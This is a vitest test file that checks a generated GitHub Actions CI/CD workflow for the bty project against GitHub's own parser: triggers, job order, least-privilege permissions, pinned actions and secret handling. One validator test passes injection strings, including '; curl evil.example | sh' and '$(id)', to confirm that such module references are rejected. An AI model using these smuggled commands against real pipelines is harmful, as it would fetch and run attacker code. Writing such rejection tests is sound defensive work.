/**
 * The drop-in ci-cd.yml and this repository's own ci.yml, read by GitHub's
 * own workflow parser (@actions/workflow-parser) and expression engine
 * (@actions/expressions). From the parsed drop-in, for every event and path
 * filter, the test works out which `dagger call`s run and in which order
 * (triggers, branch/tag/path filters, job `if:` and `needs`, step order) and
 * compares that with `plan`. Path patterns are matched with picomatch, not
 * with plan.ts's own matcher.
 */
import { readFileSync } from "node:fs";
import { resolve } from "node:path";

import { data, Evaluator, Lexer, Parser } from "@actions/expressions";
import { truthy } from "@actions/expressions/result";
import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
import type { Job, WorkflowTemplate } from "@actions/workflow-parser/model/workflow-template";
import picomatch from "picomatch";
import { beforeEach, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";

import { callArgs, plan, plannedCalls, type Plan } from "../../src/plan.js";
import { daggerCall, workflowObject, workflowOptions, workflowYaml } from "../../src/workflow.js";

const repoFile = (path: string) => readFileSync(resolve(import.meta.dirname, "../..", path), "utf8");

/** What `dagger call all-checks` runs (the report rows), from the function list. */
const ALL_CHECKS = [
  "lint",
  "test:py-311",
  "test:py-312",
  "test:py-313",
  "test:py-314",
  "typecheck",
  "flash-integration",
  "build-wheel",
  "docs",
  "build-ipxe",
  "build-netboot-pc",
  "build-ramboot-init",
  "build-usbboot-pc",
  "test-pxe:bios",
  "test-pxe:uefi",
  "test-usb-grow",
  "test-usb-ventoy",
];

const MODULE = "github.com/safl/bty-ci@v0.1.0";

/** Parse and convert with GitHub's parser; throws with every error it reports. */
async function load(name: string, content: string): Promise<WorkflowTemplate> {
  const parsed = parseWorkflow({ name, content }, new NoOperationTraceWriter());
  const parseErrors = parsed.context.errors.getErrors().map((e) => e.message);
  expect(parseErrors, `${name}: parser errors`).toEqual([]);
  const template = await convertWorkflowTemplate(parsed.context, parsed.value!);
  expect((template.errors ?? []).map((e) => e.Message), `${name}: conversion errors`).toEqual([]);
  return template;
}

interface Scenario {
  event: "pull_request" | "push" | "workflow_dispatch";
  /** Full ref; for pull_request the base branch. */
  ref: string;
  changedPaths: string[];
}

const STATUS_FUNCTIONS = ["success", "always", "failure", "cancelled"];

/** Evaluate a job condition as GitHub does when every needed job succeeded. */
function evaluateIf(expression: string, s: Scenario): boolean {
  const tokens = new Lexer(expression).lex().tokens;
  const ast = new Parser(
    tokens,
    ["github"],
    STATUS_FUNCTIONS.map((name) => ({ name, minArgs: 0, maxArgs: 0 })),
  ).parse();
  const refName = s.ref.replace(/^refs\/(heads|tags)\//, "");
  const github = new data.Dictionary(
    { key: "event_name", value: new data.StringData(s.event) },
    { key: "ref", value: new data.StringData(s.ref) },
    { key: "ref_name", value: new data.StringData(refName) },
  );
  const status = new Map(
    STATUS_FUNCTIONS.map((name) => [
      name,
      { name, minArgs: 0, maxArgs: 0, call: () => new data.BooleanData(name === "success" || name === "always") },
    ]),
  );
  return truthy(new Evaluator(ast, new data.Dictionary({ key: "github", value: github }), status).evaluate());
}

const matches = (patterns: string[] | undefined, value: string) =>
  (patterns ?? []).some((p) => picomatch(p, { dot: true })(value));

/** Whether the workflow starts at all (GitHub's trigger rules for these filters). */
function triggered(t: WorkflowTemplate, s: Scenario): boolean {
  if (s.event === "workflow_dispatch") return "workflow_dispatch" in t.events;
  const on = t.events[s.event];
  if (!on) return false;
  const isTag = s.ref.startsWith("refs/tags/");
  const name = s.ref.replace(/^refs\/(heads|tags)\//, "");
  if (isTag) {
    // Tag pushes need a tags filter; path filters are not evaluated for them.
    return s.event === "push" && matches((on as { tags?: string[] }).tags, name);
  }
  if (!matches(on.branches, name)) return false;
  const ignore = on["paths-ignore"];
  if (ignore && s.changedPaths.length && s.changedPaths.every((p) => matches(ignore, p))) return false;
  return true;
}

/** One dagger call found in a run step. */
interface FoundCall {
  name: string;
  args: string[];
  job: string;
  step: number;
  /** Set when the call came from expanding all-checks (its members run in one engine call). */
  group?: string;
}

/** The call after `dagger ... call [--source .] [bty-ci]`, split into words ($TAG filled in). */
function daggerCalls(run: string, tag: string): string[][] {
  return run
    .split("\n")
    .map((l) => /\bdagger\b.*?\bcall\s+(?:--source \.\s+)?(?:bty-ci\s+)?(.*?)(?:\s*>.*)?$/.exec(l))
    .filter((m): m is RegExpExecArray => m !== null)
    .map((m) => m[1]!.replace(/"\$TAG"/g, tag).split(/\s+/));
}

/** Report name of a call: legs and firmwares as fn:variant. */
function callName(args: string[]): string {
  if (args[0] === "test" && args[1]) return `test:${args[1]}`;
  if (args[0] === "test-pxe") return `test-pxe:${args[args.indexOf("--firmware") + 1]}`;
  return args[0]!;
}

/** Which calls run for a scenario, and which calls finish before each one. */
function simulate(t: WorkflowTemplate, s: Scenario): { calls: FoundCall[]; before: Map<string, Set<string>> } {
  const calls: FoundCall[] = [];
  const before = new Map<string, Set<string>>();
  if (!triggered(t, s)) return { calls, before };
  const tag = s.ref.startsWith("refs/tags/") ? s.ref.slice("refs/tags/".length) : "";
  const ran = new Map<string, FoundCall[]>();
  for (const job of t.jobs as Job[]) {
    const id = job.id.value;
    const needs = (job.needs ?? []).map((n) => n.value);
    if (!needs.every((n) => ran.has(n))) continue;
    if (!evaluateIf(job.if.expression, s)) continue;
    const upstream = needs.flatMap((n) => ran.get(n)!.map((c) => c.name));
    const inJob: FoundCall[] = [];
    job.steps.forEach((step, i) => {
      if (!("run" in step)) return;
      if (step.if && !evaluateIf(step.if.expression, s)) return;
      for (const args of daggerCalls(step.run.toString(), tag)) {
        const earlier = [...upstream, ...inJob.map((c) => c.name)];
        const found: FoundCall[] =
          args[0] === "all-checks"
            ? ALL_CHECKS.map((name) => ({ name, args, job: id, step: i, group: `${id}#${i}` }))
            : [{ name: callName(args), args, job: id, step: i }];
        for (const f of found) before.set(f.name, new Set(earlier));
        inJob.push(...found);
      }
    });
    ran.set(id, inJob);
    calls.push(...inJob);
  }
  return { calls, before };
}

const SCENARIOS: Scenario[] = [
  { event: "pull_request", ref: "refs/heads/main", changedPaths: [] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["src/bty/cli.py"] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["docs/src/ci.md", "README.md"] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["docs/src/ci.md", "pyproject.toml"] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["CHANGELOG.md", "LICENSE", ".github/workflows/docs.yml"] },
  { event: "pull_request", ref: "refs/heads/release-1", changedPaths: [] },
  { event: "push", ref: "refs/heads/main", changedPaths: [] },
  { event: "push", ref: "refs/heads/main", changedPaths: ["docs/index.md"] },
  { event: "push", ref: "refs/heads/main", changedPaths: ["src/README.md"] },
  { event: "push", ref: "refs/heads/feature", changedPaths: [] },
  { event: "push", ref: "refs/tags/v0.77.2", changedPaths: [] },
  { event: "push", ref: "refs/tags/v0.77.2", changedPaths: ["docs/index.md"] },
  { event: "push", ref: "refs/tags/nightly", changedPaths: [] },
  { event: "workflow_dispatch", ref: "refs/heads/main", changedPaths: [] },
  { event: "workflow_dispatch", ref: "refs/tags/v0.77.2", changedPaths: [] },
  { event: "workflow_dispatch", ref: "refs/heads/feature", changedPaths: ["docs/x.md"] },
];

const label = (s: Scenario) => `${s.event} ${s.ref} [${s.changedPaths.join(", ")}]`;
const ciCdCalls = (p: Plan) => plannedCalls(p).filter((c) => c.workflow === "ci-cd.yml");

describe("both workflows pass GitHub's own parser", () => {
  it("the drop-in, called with -m and as a toolchain", async () => {
    for (const module of [MODULE, ""]) {
      const t = await load("ci-cd.yml", workflowYaml(workflowOptions(module)));
      expect(t.jobs.map((j) => j.id.value)).toEqual(["checks", "tag-release", "release", "smoke"]);
    }
  });

  it("this repository's .github/workflows/ci.yml", async () => {
    const t = await load("ci.yml", repoFile(".github/workflows/ci.yml"));
    expect(t.jobs.length).toBeGreaterThan(0);
  });

  it("the parser does reject a broken workflow (so the checks above can fail)", () => {
    const broken = workflowYaml(workflowOptions(MODULE)).replace("runs-on: ubuntu-24.04", "runs-on: [");
    const parsed = parseWorkflow({ name: "broken.yml", content: broken }, new NoOperationTraceWriter());
    expect(parsed.context.errors.getErrors().length).toBeGreaterThan(0);
    const unknownKey = workflowYaml(workflowOptions(MODULE)).replace("timeout-minutes: 15", "timeout-minutez: 15");
    const parsed2 = parseWorkflow({ name: "typo.yml", content: unknownKey }, new NoOperationTraceWriter());
    expect(parsed2.context.errors.getErrors().map((e) => e.message).join("\n")).toMatch(/timeout-minutez/);
  });
});

describe("the drop-in's event-to-call mapping agrees with plan", () => {
  // Made before each test, not while tests are collected (D26).
  let template: WorkflowTemplate;
  beforeEach(async () => {
    template = await load("ci-cd.yml", workflowYaml(workflowOptions(MODULE)));
  });

  for (const s of SCENARIOS) {
    it(label(s), () => {
      const p = plan(s.event, s.ref, s.changedPaths);
      const { calls, before } = simulate(template, s);
      const planned = ciCdCalls(p);
      expect(calls.map((c) => c.name).sort()).toEqual(planned.map((c) => c.name).sort());
      for (const c of planned) {
        const found = calls.find((f) => f.name === c.name)!;
        // Arguments: every planned argument is passed (the workflow may add secrets).
        if (!found.group) expect(found.args.slice(0, c.call.length), c.name).toEqual(callArgs(p, c));
        // Order: each need finished earlier, or runs in the same engine call (all-checks' own graph).
        for (const need of c.needs) {
          const sameCall = found.group !== undefined && calls.some((f) => f.name === need && f.group === found.group);
          expect(sameCall || before.get(c.name)!.has(need), `${c.name} needs ${need}`).toBe(true);
        }
      }
    });
  }

  it("covers every kind of outcome: nothing, docs-only skip, all-checks, tag, publish, dispatch", () => {
    const outcomes = SCENARIOS.map((s) => simulate(template, s).calls.map((c) => c.name));
    expect(outcomes.filter((o) => o.length === 0).length).toBe(6);
    expect(outcomes.filter((o) => o.includes("tag-release")).length).toBe(2);
    expect(outcomes.filter((o) => o.includes("publish")).length).toBe(2);
    expect(outcomes.filter((o) => o.includes("build-wheel") && o.length === 5).length).toBe(3);
  });

  it("the simulation notices a wrong condition (a dispatch job that could publish)", async () => {
    const wf = workflowObject(workflowOptions(MODULE)) as { jobs: Record<string, { if: string }> };
    wf.jobs.release!.if = "startsWith(github.ref, 'refs/tags/v')";
    const { stringify } = await import("yaml");
    const t = await load("mutated.yml", stringify(wf));
    const dispatchOnTag = SCENARIOS.find((s) => s.event === "workflow_dispatch" && s.ref.startsWith("refs/tags/"))!;
    expect(simulate(t, dispatchOnTag).calls.map((c) => c.name)).toContain("publish");
  });

  it("the toolchain variant calls the same functions through `call bty-ci`", async () => {
    const t = await load("ci-cd.yml", workflowYaml(workflowOptions("")));
    const s = SCENARIOS.find((x) => x.event === "push" && x.ref === "refs/heads/main" && !x.changedPaths.length)!;
    expect(simulate(t, s).calls.map((c) => c.name).sort()).toEqual([...ALL_CHECKS, "tag-release"].sort());
    expect(workflowYaml(workflowOptions(""))).toContain("dagger --progress=plain call bty-ci all-checks --format markdown");
  });
});

// The drop-in is made before each test, not once per describe: code run while
// tests are collected counts as no test's in a mutation run (D26).
describe("the drop-in's contents", () => {
  type Jobs = Record<string, Record<string, unknown> & { steps: Record<string, unknown>[] }>;
  let wf: Record<string, unknown> & { jobs: Jobs; on: unknown };
  let jobs: Jobs;
  beforeEach(() => {
    wf = parseYaml(workflowYaml(workflowOptions(MODULE)));
    jobs = wf.jobs;
  });
  const runs = (job: string) => jobs[job]!.steps.map((s) => s.run).filter(Boolean).join("\n");

  it("names every step for the call it makes; each report in its own file; the job token only where publish needs it", () => {
    const install = "Install the Dagger CLI v0.21.8 (dagger/dagger-for-github v8.4.1)";
    const prepare = ["Check out bty", "Free disk space for the live image builds", "Allow KVM (before the Dagger engine starts)", install];
    const names = (job: string) => jobs[job]!.steps.map((s) => s.name);
    expect(names("checks")).toEqual([...prepare, "all-checks"]);
    expect(names("tag-release")).toEqual(["Check out bty", install, "tag-release"]);
    expect(names("release")).toEqual([...prepare, "check-not-published", "all-checks", "publish"]);
    expect(names("smoke")).toEqual(["Check out bty", install, "test py-311", "test py-312", "test py-313", "test py-314", "build-wheel"]);
    for (const job of ["checks", "release"]) expect(runs(job), job).toContain('report="$RUNNER_TEMP/all-checks.md"');
    const publish = jobs.release!.steps.find((s) => s.name === "publish")!;
    expect(publish.env).toEqual({ GITHUB_TOKEN: "${{ secrets.GITHUB_TOKEN }}" });
    expect(jobs.release!.steps.filter((s) => s.env !== undefined).map((s) => s.name)).toEqual(["publish"]);
  });

  it("keeps bty's triggers and path filters", () => {
    const ignore = ["docs/**", "README.md", "CHANGELOG.md", "LICENSE", ".github/workflows/docs.yml"];
    expect(wf.on).toEqual({
      pull_request: { branches: ["main"], "paths-ignore": ignore },
      push: { branches: ["main"], tags: ["v*"], "paths-ignore": ignore },
      workflow_dispatch: null,
    });
  });

  it("grants nothing by default and least privilege per job", () => {
    expect(wf.permissions).toEqual({});
    expect(jobs.checks!.permissions).toEqual({ contents: "read" });
    expect(jobs["tag-release"]!.permissions).toEqual({ contents: "read" });
    expect(jobs.smoke!.permissions).toEqual({ contents: "read" });
    expect(jobs.release!.permissions).toEqual({ contents: "write", packages: "write", "id-token": "write" });
    expect(jobs.release!.environment).toBe("pypi");
  });

  it("cancels superseded pull request runs only, never a main or tag run", () => {
    expect(wf.concurrency).toEqual({
      group: "ci-cd-${{ github.ref }}",
      "cancel-in-progress": "${{ github.event_name == 'pull_request' }}",
    });
  });

  it("sets timeouts and a pinned runner on every job", () => {
    expect(Object.fromEntries(Object.entries(jobs).map(([k, j]) => [k, j["timeout-minutes"]]))).toEqual({
      checks: 150,
      "tag-release": 15,
      release: 180,
      smoke: 60,
    });
    for (const j of Object.values(jobs)) expect(j["runs-on"]).toBe("ubuntu-24.04");
  });

  it("installs only the pinned Dagger CLI through dagger/dagger-for-github v8.4.1, pinned by commit", () => {
    for (const [id, j] of Object.entries(jobs)) {
      const uses = j.steps.map((s) => s.uses).filter(Boolean);
      expect(uses, id).toEqual([
        "actions/checkout@d23441a48e516b6c34aea4fa41551a30e30af803",
        "dagger/dagger-for-github@27b130bf0f79a7f6fbbbe0fbca6760dc9bb40a77",
      ]);
      const install = j.steps.find((s) => String(s.uses).startsWith("dagger/"))!;
      expect(install.with).toEqual({ version: "0.21.8", verb: "version" });
      expect(j.steps.find((s) => String(s.uses).startsWith("actions/checkout"))!.with).toEqual({ "persist-credentials": false });
    }
    const installed = jobs.checks!.steps.find((s) => String(s.uses).startsWith("dagger/"))!.with as { version: string };
    expect(`v${installed.version}`).toBe(
      JSON.parse(repoFile("dagger.json")).engineVersion,
    );
  });

  it("opens /dev/kvm before the engine starts and frees disk for the live builds (checks and release)", () => {
    for (const id of ["checks", "release"]) {
      const names = jobs[id]!.steps.map((s) => s.name);
      const kvm = names.indexOf("Allow KVM (before the Dagger engine starts)");
      const disk = names.indexOf("Free disk space for the live image builds");
      const install = names.findIndex((n) => String(n).startsWith("Install the Dagger CLI"));
      expect(kvm, id).toBeGreaterThan(-1);
      expect(disk, id).toBeGreaterThan(-1);
      expect(kvm, id).toBeLessThan(install);
      expect(runs(id)).toContain(
        `echo 'KERNEL=="kvm", GROUP="kvm", MODE="0666", OPTIONS+="static_node=kvm"' | sudo tee /etc/udev/rules.d/99-kvm4all.rules`,
      );
      expect(runs(id)).toContain("sudo udevadm trigger --name-match=kvm");
      expect(runs(id)).toContain("sudo rm -rf /usr/share/dotnet /usr/local/lib/android /opt/ghc");
    }
    expect(runs("smoke")).not.toContain("kvm");
  });

  it("passes the Dagger Cloud token to every job and secrets only as env: references", () => {
    for (const j of Object.values(jobs)) {
      expect((j.env as Record<string, string>).DAGGER_CLOUD_TOKEN).toBe("${{ secrets.DAGGER_CLOUD_TOKEN }}");
    }
    expect(runs("tag-release")).toMatch(/tag-release --head \. --token env:RELEASE_PAT$/);
    expect(jobs["tag-release"]!.steps.at(-1)!.env).toEqual({ RELEASE_PAT: "${{ secrets.RELEASE_PAT }}" });
    expect(runs("release")).toContain(
      'publish --tag "$TAG" --head . --github-token env:GITHUB_TOKEN --registry-user "$GITHUB_ACTOR" --registry-token env:GITHUB_TOKEN ' +
        '--oidc-request-token env:ACTIONS_ID_TOKEN_REQUEST_TOKEN --oidc-request-url env:ACTIONS_ID_TOKEN_REQUEST_URL --format markdown --fail-on-error=false > "$report"',
    );
    // No repository variable: test-usb-ventoy's Ventoy checksum is pinned (D33).
    expect(workflowYaml(workflowOptions(MODULE))).not.toContain("vars.");
    expect((jobs.release!.env as Record<string, string>).TAG).toBe("${{ github.ref_name }}");
    // No expression is expanded inside a script (no injection through ref names).
    for (const id of Object.keys(jobs)) expect(runs(id), id).not.toContain("${{");
  });

  it("writes the run report to the job summary and fails unless it passed", () => {
    for (const id of ["checks", "release"]) {
      expect(runs(id)).toContain(
        `all-checks --format markdown --fail-on-error=false > "$report"\ncat "$report" >> "$GITHUB_STEP_SUMMARY"\nif ! grep -qxF '<!-- bty-ci-report: passed -->' "$report"; then`,
      );
    }
    // publish's report too: its steps in the summary, the job failing unless every step completed.
    expect(runs("release")).toContain(
      `ACTIONS_ID_TOKEN_REQUEST_URL --format markdown --fail-on-error=false > "$report"\ncat "$report" >> "$GITHUB_STEP_SUMMARY"\nif ! grep -qxF '<!-- bty-ci-report: passed -->' "$report"; then\n  echo "::error::publish: a job failed`,
    );
    expect(runs("release")).toContain('report="$RUNNER_TEMP/publish.md"');
  });

  it("starts with a comment saying how it was made", () => {
    expect(workflowYaml(workflowOptions(MODULE)).split("\n")[0]).toBe(
      "# bty's CI/CD through bty-ci (generated by `dagger call workflow`; regenerate, don't edit).",
    );
  });
});

describe("the drop-in's text", () => {
  let text = "";
  beforeEach(() => {
    text = workflowYaml(workflowOptions(MODULE));
  });

  it("names its jobs for what they call", () => {
    const jobs = parseYaml(text).jobs as Record<string, { name: string }>;
    expect(Object.fromEntries(Object.entries(jobs).map(([k, j]) => [k, j.name]))).toEqual({
      checks: "All checks, builds and e2e tests (bty-ci all-checks)",
      "tag-release": "Tag a new version (bty-ci tag-release)",
      release: "Check, build, test and publish the tag (bty-ci publish)",
      smoke: "Package smoke test (bty-ci test + build-wheel)",
    });
  });

  it("is plain YAML a reviewer can read: no anchors, no folded lines, an empty workflow_dispatch", () => {
    expect(text).not.toMatch(/[&*]a\d/);
    expect(text).toContain(`\n          dagger --progress=plain -m ${MODULE} call --source . all-checks --format markdown --fail-on-error=false > "$report"\n`);
    expect(text).toMatch(/^  workflow_dispatch:$/m);
    expect(text).not.toContain("null");
  });

  it("frees disk and opens KVM with exactly these commands", () => {
    const steps = parseYaml(text).jobs.checks.steps as { name: string; run?: string }[];
    expect(steps.find((s) => s.name === "Free disk space for the live image builds")!.run).toBe(
      "sudo rm -rf /usr/share/dotnet /usr/local/lib/android /opt/ghc /opt/hostedtoolcache/CodeQL\nsudo docker image prune --all --force\ndf -h /",
    );
    expect(steps.find((s) => s.name === "Allow KVM (before the Dagger engine starts)")!.run).toBe(
      [
        `echo 'KERNEL=="kvm", GROUP="kvm", MODE="0666", OPTIONS+="static_node=kvm"' | sudo tee /etc/udev/rules.d/99-kvm4all.rules`,
        "sudo udevadm control --reload-rules",
        "sudo udevadm trigger --name-match=kvm",
        "ls -l /dev/kvm",
      ].join("\n"),
    );
    expect(steps.map((s) => s.name)).toEqual([
      "Check out bty",
      "Free disk space for the live image builds",
      "Allow KVM (before the Dagger engine starts)",
      "Install the Dagger CLI v0.21.8 (dagger/dagger-for-github v8.4.1)",
      "all-checks",
    ]);
  });

  it("fails the report step with a message pointing at the summary", () => {
    expect(text).toContain(`  echo "::error::all-checks: a job failed; its last log lines are in the job summary"\n            exit 1\n          fi`);
    expect(text).toContain(`set -euo pipefail\n          report="$RUNNER_TEMP/all-checks.md"`);
  });

  it("starts with the header saying what it does and which secrets it uses", () => {
    expect(text.split("\n").slice(0, 6)).toEqual([
      "# bty's CI/CD through bty-ci (generated by `dagger call workflow`; regenerate, don't edit).",
      "# Pull requests and pushes to main: every check, build and e2e test (all-checks);",
      "# main also tags a new version (tag-release). v* tags: check-not-published,",
      "# all-checks, then publish, on one engine. Manual dispatch: test + build-wheel",
      "# only, never tags or publishes. Docs-only changes are left to docs.yml.",
      "# Secrets: RELEASE_PAT (tag push), DAGGER_CLOUD_TOKEN (optional traces).",
    ]);
    expect(text.split("\n")[6]).toBe("name: CI");
  });
});

describe("workflow options", () => {
  it("calls a pinned remote module with the checkout as --source, or the toolchain", () => {
    expect(daggerCall({ module: MODULE })).toBe(`dagger --progress=plain -m ${MODULE} call --source .`);
    expect(daggerCall({ module: "" })).toBe("dagger --progress=plain call bty-ci");
  });

  it("rejects a module without a pinned ref, naming the fix", () => {
    expect(() => workflowOptions("github.com/safl/bty-ci")).toThrow(
      'module "github.com/safl/bty-ci" has no pinned ref: pass e.g. github.com/safl/bty-ci@v1.2.3 (a tag or commit), or "" when bty-ci is installed as a toolchain',
    );
    expect(() => workflowOptions("bty-ci@main")).toThrow(/no pinned ref/);
    // The module lands in every run: line, so nothing around the reference gets through.
    expect(() => workflowOptions("github.com/safl/bty-ci@v1.0.0; curl evil.example | sh")).toThrow(/no pinned ref/);
    expect(() => workflowOptions("$(id) github.com/safl/bty-ci@v1.0.0")).toThrow(/no pinned ref/);
    expect(workflowOptions("  github.com/safl/bty-ci@0123abc ")).toEqual({ module: "github.com/safl/bty-ci@0123abc" });
    expect(workflowOptions("")).toEqual({ module: "" });
  });
});
